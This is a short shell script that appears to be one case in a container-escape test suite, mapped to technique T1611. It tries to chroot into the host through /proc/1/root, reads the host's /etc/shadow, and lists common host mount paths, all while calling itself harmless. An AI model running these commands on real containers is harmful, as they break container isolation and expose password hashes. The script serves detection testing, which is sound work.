#!/bin/sh
# case: T1611-chroot-proc-root
# technique: Escape: chroot to /proc/1/root and host paths read there
# source: CDK; botb
# needs: chroot
# expect: escape file priv
# where: container
# image: busybox debian
# caps: none
# seen: -
# harmless: own or decoy files, own child processes and loopback only; undoes itself. Exit 0 done, 77 cannot run here.
set -u
need() { for t in "$@"; do command -v "$t" >/dev/null 2>&1 || { echo "SKIP: $t missing"; exit 77; }; done; }
need chroot
(chroot /proc/1/root /bin/sh -c 'id'; cat /proc/1/root/etc/shadow; ls /proc/1/root/; ls /host /hostfs /mnt/host /rootfs) >/dev/null 2>&1; true
exit 0
